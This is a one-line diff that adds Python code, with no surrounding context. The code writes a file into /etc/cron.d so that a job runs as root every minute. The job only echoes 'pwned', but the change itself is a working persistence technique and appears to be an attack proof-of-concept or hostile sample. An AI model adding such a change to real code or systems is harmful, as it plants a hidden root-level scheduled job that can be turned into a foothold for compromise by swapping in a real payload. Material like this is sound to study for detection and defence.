@@ -1,0 +1,1 @@
+open('/etc/cron.d/update', 'w').write('* * * * * root echo pwned\n')
